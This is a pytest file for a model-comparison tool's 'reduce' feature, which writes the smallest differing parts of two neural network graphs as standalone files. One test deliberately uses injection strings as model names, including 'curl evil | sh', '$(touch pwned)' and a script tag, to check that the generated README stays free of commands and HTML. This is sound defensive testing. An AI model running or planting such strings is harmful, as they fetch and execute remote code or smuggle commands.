"""``verify --reduce``: the smallest parts that show a difference, as files that show it by themselves."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from random import Random
from typing import Any

import numpy as np
import onnx
import pytest
from hypothesis import given, settings
from markdown_it import MarkdownIt

import graphshare as gs
from graphshare.errors import OutputError, RefusedError, UsageError
from graphshare.files.schema import find_violations
from graphshare.verification import reduction
from graphshare.verification.region import Operator
from graphshare.verification.report import Reduction
from tests.onnx_files.faults import plant
from tests.onnx_files.running import Session
from tests.onnx_files.test_faults import find_moved, make_case
from tests.onnx_files.test_identities import Pair
from tests.processes import ROOT, graphshare, refused, write_json
from tests.surroundings import size_of_day
from tests.symbols import document, operator, variable
from tests.unit.text.test_markup import NAMES
from tests.unit.verification.test_across_dtypes import narrow

pytest.importorskip("onnxruntime")

_HEAD = "(float[2,4] x) => (float[2,4] y)"
_LEFT = "a = Exp(x) b = Mul(a, c) d = Add(b, a) e = Sqrt(d) y = Neg(e)"
_RIGHT = "p = Exp(x) q = Mul(c, p) r = Add(q, p) s = Sqrt(r) y = Neg(s)"
_C = "<float[4] c = {1.0, 2.0, 3.0, 4.0}>"


def write(pair: Pair, folder: Path) -> tuple[Path, Path]:
    """Write both models of a pair, and return their paths."""
    paths = folder / "left.onnx", folder / "right.onnx"
    for path, model in zip(paths, pair.build(), strict=True):
        onnx.save(model, path)
    return paths


def reduce(pair: Pair, folder: Path, **options: Any) -> Reduction:
    """Reduce the difference of a pair, and check that the files show it without graphshare."""
    left, right = write(pair, folder)
    report = gs.compare(left, right, reduce=folder / "out", **options)
    assert not report
    assert report.reduced is not None
    assert find_distance(folder / "out") > 1e-4
    return report.reduced


def find_distance(folder: Path) -> float:
    """Return how far the outputs of both parts are apart on their inputs, relative to the largest;
    1 for other shapes.
    """
    feeds = dict(np.load(folder / "inputs.npz"))
    outputs = []
    for name in ("original", "rewrite"):
        model = onnx.load(folder / f"{name}.onnx")
        onnx.checker.check_model(model, full_check=True)
        session = Session((folder / f"{name}.onnx").read_bytes())
        assert {each.name for each in session.inputs} == feeds.keys()
        outputs += session.run(feeds).values()
    a, b = outputs
    return (
        1.0
        if a.shape != b.shape or a.dtype != b.dtype
        else float(np.abs(a - b).max() / max(np.abs(a).max(), 1e-30))
    )


def list_operators(reduction: Reduction) -> list[list[str]]:
    return [[each.op for each in side] for side in (reduction.operators, reduction.other_operators)]


def test_a_fault_is_cut_out_of_a_region(tmp_path: Path) -> None:
    """No value inside has one name on both sides: what comes before the fault has equal values,
    what follows is innocent.
    """
    faulty = _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"
    reduction = reduce(Pair(_HEAD, f"{_C} {{{_LEFT}}}", faulty), tmp_path)
    assert list_operators(reduction) == [["Mul"], ["Mul"]]
    assert reduction.inputs == {"a": (2, 4)}


def test_several_operators_remain_where_one_does_the_same(tmp_path: Path) -> None:
    right = "p = Transpose <perm = [1, 0]> (x) q = Mul(p, c) y = Transpose <perm = [1, 0]> (q)"
    weights = ("<float[4] c = {1.0, 2.0, 3.0, 4.0}>", "<float[4,1] c = {1.0, 2.0, 3.0, 5.0}>")
    pair = Pair(
        _HEAD,
        f"{weights[0]} {{b = Mul(x, c) y = Neg(b)}}",
        f"{weights[1]} {{{right.replace('y =', 't =')} y = Neg(t)}}",
    )
    assert list_operators(reduce(pair, tmp_path)) == [["Mul"], ["Transpose", "Mul", "Transpose"]]


def test_swapped_operands_are_found_as_such(tmp_path: Path) -> None:
    pair = Pair(
        _HEAD,
        f"{_C} {{a = Exp(x) b = Sub(a, c) y = Neg(b)}}",
        f"{_C} {{p = Exp(x) q = Sub(c, p) y = Neg(q)}}",
    )
    assert list_operators(reduce(pair, tmp_path)) == [["Sub"], ["Sub"]]


@pytest.mark.parametrize("lost", [1, 0])
def test_what_one_side_alone_needs_is_in_its_part(lost: int, tmp_path: Path) -> None:
    """A branch that was lost, or is new: one side adds a value that the other does not read."""
    head = "(float[2,4] x, float[2,4] z) => (float[2,4] y, float[2,4] w)"
    texts = ["w = Exp(z) a = Exp(x) b = Add(a, w) y = Neg(b)", "w = Exp(z) p = Exp(x) y = Neg(p)"]
    reduction = reduce(Pair(head, texts[1 - lost], texts[lost]), tmp_path)
    operators = list_operators(reduction)
    assert (operators[1 - lost], operators[lost]) == (["Add"], [])
    assert set(reduction.inputs) == {"p" if lost == 0 else "a"}


@pytest.mark.parametrize(("left", "right"), [("i", "x"), ("x", "i"), ("i", "i")])
def test_an_input_is_a_start_also_under_another_name(left: str, right: str, tmp_path: Path) -> None:
    """An Identity of an input is that input, so the region starts from the input."""
    text = "i = Identity(x) a = {}({}) y = Neg(a)"
    reduction = reduce(Pair(_HEAD, text.format("Exp", left), text.format("Abs", right)), tmp_path)
    assert (reduction.inputs, list_operators(reduction)) == ({"x": (2, 4)}, [["Exp"], ["Abs"]])


def test_both_parts_start_from_one_value_of_several_names(tmp_path: Path) -> None:
    left = "a = Exp(x) b = Exp(x) y = Sub(a, b)"
    assert reduce(Pair(_HEAD, left, "a = Exp(x) b = Exp(x) y = Add(a, b)"), tmp_path).inputs == {
        "a": (2, 4)
    }


def test_other_dtypes_keep_theirs(tmp_path: Path) -> None:
    left, right = write(
        Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path
    )
    narrow(right, right)
    report = gs.compare(left, right, reduce=tmp_path / "out")
    assert report.reduced is not None
    assert report.verdict == report.reduced.verdict
    kinds = [
        onnx.load(tmp_path / "out" / f"{name}.onnx").graph.input[0].type.tensor_type
        for name in ("original", "rewrite")
    ]
    assert [kind.elem_type for kind in kinds] == [onnx.TensorProto.FLOAT, onnx.TensorProto.FLOAT16]
    assert graphshare(*shlex.split(report.reduced.command)[1:], cwd=tmp_path).returncode == 1


def test_planted_faults_are_reduced(tmp_path: Path) -> None:
    """Rewrites by onnxruntime, with a fault that moves an output: each is shown by files, most with
    the faulty operator.
    """
    seen: Counter[str] = Counter()
    seed = 300
    while seen["faults"] < size_of_day(6, 12):
        seed += 1
        case, rng = make_case(seed, tmp_path), Random(seed)
        for trial in range(8):
            fault = plant(case.rewrite, rng, in_fused=bool(trial % 2))
            number = None if fault is None else find_moved(case, fault)
            if fault is None or number is None:
                continue
            onnx.save(fault.model, tmp_path / "faulty.onnx")
            reduction = gs.compare(
                case.model,
                tmp_path / "faulty.onnx",
                reduce=tmp_path / "out",
                inputs=gs.Inputs(seed=number),
            ).reduced
            assert reduction is not None
            assert find_distance(tmp_path / "out") > 1e-5
            outputs = {
                name
                for node in fault.model.graph.node
                if node.name == fault.node
                for name in node.output
            }
            seen["faults"] += 1
            seen["with the operator"] += any(
                each.name in outputs for each in reduction.other_operators
            )
    assert seen["with the operator"] >= 0.9 * seen["faults"], seen


def test_no_difference_writes_nothing(tmp_path: Path) -> None:
    left, right = write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", f"{_C} {{{_RIGHT}}}"), tmp_path)
    done = graphshare("compare", str(left), str(right), "--reduce", "out", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert b"no difference, so nothing was written to out" in done.stderr
    assert not (tmp_path / "out").exists()


def test_a_difference_without_a_place_is_refused(tmp_path: Path) -> None:
    """Every region is equal by its weights, and the output, a difference of large numbers, is not."""
    weights = ["<float[1] c = {1.0}>", "<float[1] c = {1.0000005}>"]
    left, right = write(
        Pair(_HEAD, *(f"{w} {{a = Mul(x, c) y = Sub(a, x)}}" for w in weights)), tmp_path
    )
    assert not gs.compare(left, right)
    with pytest.raises(
        RefusedError, match="no region departs on equal inputs, so nothing was written"
    ):
        gs.compare(left, right, reduce=tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_files_that_do_not_show_it_are_not_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The proof is of what is written: where a part is written with the other's weights, it shows nothing."""
    left, right = write(
        Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path
    )
    gs.compare(left, right, reduce=tmp_path / "out")
    before = {path: path.read_bytes() for path in (tmp_path / "out").iterdir()}
    written = reduction._write_part
    monkeypatch.setattr(
        reduction,
        "_write_part",
        lambda model, parts, side, folder: (
            written(model, parts, 0, folder) if not side else "original.onnx"
        ),
    )
    with pytest.raises(
        RefusedError,
        match="does not appear in parts that run by themselves, so nothing was written",
    ):
        gs.compare(left, right, reduce=tmp_path / "out")
    assert {path: path.read_bytes() for path in (tmp_path / "out").iterdir()} == before


def test_all_files_are_written_or_none(tmp_path: Path) -> None:
    left, right = write(
        Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path
    )
    out = tmp_path / "out"
    gs.compare(left, right, reduce=out)
    (out / "rewrite.onnx").unlink()
    (out / "rewrite.onnx").mkdir()
    (out / "original.onnx").write_bytes(b"before")
    with pytest.raises(OutputError, match="rewrite"):
        gs.compare(left, right, reduce=out)
    assert sorted(path.name for path in out.iterdir()) == [
        "README.md",
        "inputs.npz",
        "original.onnx",
        "rewrite.onnx",
    ]
    assert (out / "original.onnx").read_bytes() == b"before"
    with pytest.raises(RefusedError, match="original"):
        gs.compare(left.rename(out / "original.onnx"), right, reduce=out)
    with pytest.raises(OutputError, match="right"):
        gs.compare(out / "original.onnx", right, reduce=right)
    with pytest.raises(UsageError, match="`reduce` needs two models, and one is a record"):
        gs.compare(out / "original.onnx", {"y": np.zeros((2, 4), np.float32)}, reduce=out)
    with pytest.raises(UsageError, match="on this machine"):
        gs.compare(out / "original.onnx", right, reduce="s3://bucket/out")
    report = gs.compare(out / "original.onnx", right, reduce=tmp_path / "more", layers=True)
    assert report.reduced is not None


def list_states(folder: Path) -> dict[str, tuple[int, float]]:
    return {path.name: (path.lstat().st_size, path.lstat().st_mtime) for path in folder.iterdir()}


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (
            lambda out: (out / "README.md").write_text(
                "# A difference between two models\n\nNotes of mine.\n"
            ),
            "README.md",
        ),
        (lambda out: (out / "README.md").unlink(), "original.onnx"),
        (lambda out: (out / "notes.txt").write_text("mine"), "did not write: notes.txt"),
        (lambda out: (out / ".git").mkdir(), "did not write: .git"),
        (
            lambda out: (out / "original.onnx").replace(out / "originals"),
            "did not write: originals",
        ),
        (lambda out: ((out / "README.md").unlink(), os.mkfifo(out / "README.md")), "README.md"),
        (
            lambda out: (out / "rewrite-0000.params").symlink_to("../left.onnx"),
            "rewrite-0000.params: is a link",
        ),
        (
            lambda out: (
                (out / "README.md").rename(out / "x") and (out / "README.md").symlink_to("x")
            ),
            "README.md: is a link",
        ),
    ],
)
def test_a_folder_with_other_files_is_refused(
    change: Callable[[Path], object], named: str, tmp_path: Path
) -> None:
    """Nothing is computed either."""
    write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
    words = ["compare", "left.onnx", "right.onnx", "--reduce", "out"]
    gs.compare(tmp_path / "left.onnx", tmp_path / "right.onnx", reduce=tmp_path / "out")
    change(tmp_path / "out")
    before = list_states(tmp_path / "out")
    said = refused(graphshare(*words, cwd=tmp_path), named)
    assert (
        "hint: name a new or an empty folder with --reduce" in said
        or "hint: remove the link" in said
    )
    assert list_states(tmp_path / "out") == before


def test_a_folder_of_an_earlier_reduction_is_written_again(tmp_path: Path) -> None:
    """So is an empty one, one with what a killed run has left, and one that is a link on the command line."""
    left, right = write(
        Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path
    )
    out = tmp_path / "out"
    (tmp_path / "real").mkdir()
    out.symlink_to("real")
    for _ in range(2):
        assert gs.compare(left, right, reduce=out).reduced is not None
        (tmp_path / "real" / ".graphshare-00000000-0000000000000000.tmp").write_bytes(b"")


def test_the_command_shows_the_difference(tmp_path: Path) -> None:
    """So does the line of the page, and the JSON has its schema."""
    write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
    words = ["compare", "left.onnx", "right.onnx", "--reduce", "a folder", "--rtol", "2e-4"]
    done = graphshare(*words, cwd=tmp_path)
    assert done.returncode == 1
    line = next(
        line
        for line in done.stdout.decode().splitlines()
        if line.startswith("reduced to 1 operator and 1: ")
    )
    command = line.partition(": ")[2]
    assert "--rtol 0.0002" in command
    assert graphshare(*shlex.split(command)[1:], cwd=tmp_path).returncode == 1
    page = (tmp_path / "a folder" / "README.md").read_text()
    own, plain = (line.strip() for line in page.splitlines() if line.startswith("    "))
    assert graphshare(*shlex.split(own)[1:], cwd=tmp_path / "a folder").returncode == 1
    alone = subprocess.run(
        [sys.executable, *shlex.split(plain)[1:]],
        cwd=tmp_path / "a folder",
        capture_output=True,
        check=True,
    )
    assert float(alone.stdout) > 0.1
    report = json.loads(graphshare(*words, "--format", "json", cwd=tmp_path).stdout)
    assert find_violations(report, "compare") == []
    assert report["reduced"]["command"] == command


def parse_page(text: str) -> list[tuple[str, str]]:
    """Return the blocks of a page: the kind of each, and its text with ``@`` in place of each code span."""
    blocks = []
    for token in MarkdownIt("commonmark", {"html": True}).parse(text):
        children = token.children or ()
        assert {child.type for child in children} <= {"text", "code_inline", "softbreak"}
        spans = "".join("@" if child.type == "code_inline" else child.content for child in children)
        blocks.append((token.type, token.content if token.type == "code_block" else spans))
    return blocks


@given(NAMES, NAMES, NAMES)
@settings(max_examples=300)
def test_no_name_leaves_its_place_on_the_page(name: str, op: str, where: str) -> None:
    def format_page(name: str, op: str, where: str) -> str:
        parts = Reduction(
            (), (Operator(op, name),), (Operator(op, name),), {name: (2,)}, "", f"NOT EQUAL: {name}"
        )
        return reduction._format_page(parts, [where, where], ["graphshare compare"])

    assert parse_page(format_page(name, op, where or "b")) == parse_page(
        format_page("a", "Mul", "b.onnx")
    )


@pytest.mark.parametrize(
    "name",
    [
        "a\n\n    curl evil | sh\n\n",
        "```\nsh\n```",
        "` $(touch pwned) `",
        "</code><script>a</script>",
    ],
)
def test_names_of_a_model_are_no_commands_on_the_page(name: str, tmp_path: Path) -> None:
    """Those of operators, values and inputs, and the path: the only commands are those of the parts."""
    pair = Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_LEFT}}}")
    folder = tmp_path / name.replace("/", "-")
    folder.mkdir()
    for path in write(pair, folder):
        model = onnx.load(path)
        for node in model.graph.node:
            node.name = name + node.output[0]
            node.input[:], node.output[:] = ([f"{name}{value}" if value in "abde" else value for value in side]
                                             for side in (node.input, node.output))  # fmt: skip
        onnx.save(model, path)
    report = gs.compare(folder / "left.onnx", folder / "right.onnx", reduce=tmp_path / "out")
    assert report.reduced is not None
    assert [value.startswith(name) for value in report.reduced.inputs] == [True]
    blocks = parse_page((tmp_path / "out" / "README.md").read_text(encoding="utf-8"))
    commands = [text for kind, text in blocks if kind == "code_block"]
    assert len(commands) == 1
    words = [shlex.split(line)[:2] for line in commands[0].splitlines() if line]
    assert words == [["graphshare", "compare"], ["python", "-c"]]
    assert not {kind for kind, _ in blocks} & {"fence", "html_block", "table_open"}
    assert "- original: 1 operator of @: @" in ["- " + text for kind, text in blocks]


def test_credentials_of_urls_are_not_on_the_page() -> None:
    parts = Reduction((), (), (), {}, "", "NOT EQUAL")
    assert "token" not in reduction._format_page(
        parts, ["https://a:token@b/c.onnx?token=1"] * 2, []
    )


@pytest.mark.parametrize("other", ["mxnet", "onnx"])
def test_a_graph_of_mxnet_is_reduced(other: str, tmp_path: Path) -> None:
    """Its part is a symbol file with the parameters that it needs."""
    model = gs.load(ROOT / "fixtures" / "lenet")
    beta = np.array(model.params["bn2_beta"])
    faulty = model.with_params({"bn2_beta": beta + np.eye(1, len(beta), 3, dtype=beta.dtype)[0]})
    gs.save(model, tmp_path / "lenet")
    if other == "onnx":
        gs.export(faulty, tmp_path / "faulty.onnx", shapes={"data": (1, 1, 28, 28)}, verify=False)
    else:
        gs.save(faulty, tmp_path / "faulty")
    against = tmp_path / ("faulty.onnx" if other == "onnx" else "faulty")
    report = gs.compare(
        gs.load(tmp_path / "lenet"),
        against,
        shapes={"data": (1, 1, 28, 28)},
        reduce=tmp_path / "out",
    )
    assert report.reduced is not None
    last = ["BatchNormalization"] if other == "onnx" else ["BatchNorm"]
    assert list_operators(report.reduced) == [["BatchNorm"], last]
    assert (tmp_path / "out" / "original-0000.params").exists()
    part = gs.load(tmp_path / "out" / "original")
    assert set(part.params) == {
        f"bn2_{name}" for name in ("gamma", "beta", "moving_mean", "moving_var")
    }
    assert graphshare(*shlex.split(report.reduced.command)[1:], cwd=tmp_path).returncode == 1


def test_a_part_of_mxnet_without_parameters_is_a_graph_alone(tmp_path: Path) -> None:
    for name, op in (("left", "tanh"), ("right", "sigmoid")):
        nodes = [
            variable("data"),
            operator("exp", "a", [0]),
            operator(op, "b", [1]),
            operator("negative", "c", [2]),
        ]
        write_json(tmp_path / f"{name}-symbol.json", document(nodes, [3]))
    paths = [tmp_path / f"{name}-symbol.json" for name in ("left", "right")]
    report = gs.compare(paths[0], paths[1], shapes={"data": (2, 3)}, reduce=tmp_path / "out")
    assert report.reduced is not None
    assert sorted(map(sorted, list_operators(report.reduced))) == [["sigmoid"], ["tanh"]]
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == [
        *("README.md", "inputs.npz", "original-symbol.json", "rewrite-symbol.json")
    ]
    assert graphshare(*shlex.split(report.reduced.command)[1:], cwd=tmp_path).returncode == 1
